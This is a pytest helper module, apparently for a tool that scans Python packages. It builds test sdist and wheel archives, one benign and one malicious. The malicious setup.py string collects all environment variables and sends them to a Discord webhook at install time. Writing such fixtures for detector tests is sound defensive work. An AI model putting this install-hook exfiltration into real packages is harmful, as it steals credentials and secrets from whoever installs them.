"""Shared test helpers: inert artifacts built in a temp dir (never dataset samples)."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest

INERT_STEALER_SETUP = b"""import os, json, urllib.request
from setuptools import setup

data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://discord.com/api/webhooks/000/fake-token", data=data)
setup(name="inert-demo", version="1.0")
"""

BENIGN_SETUP = b"""from setuptools import setup, find_packages

with open("README.md") as fh:
    long_description = fh.read()

setup(name="tidy-demo", version="1.0", packages=find_packages(), long_description=long_description)
"""


def make_sdist(path: Path, files: dict[str, bytes], root: str = "pkg-1.0") -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def make_wheel(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return path


@pytest.fixture
def stealer_sdist(tmp_path: Path) -> Path:
    return make_sdist(tmp_path / "inert_demo-1.0.tar.gz", {"setup.py": INERT_STEALER_SETUP})


@pytest.fixture
def benign_sdist(tmp_path: Path) -> Path:
    return make_sdist(
        tmp_path / "tidy_demo-1.0.tar.gz",
        {"setup.py": BENIGN_SETUP, "README.md": b"# tidy", "tidy/__init__.py": b"X = 1\n"},
        root="tidy_demo-1.0",
    )
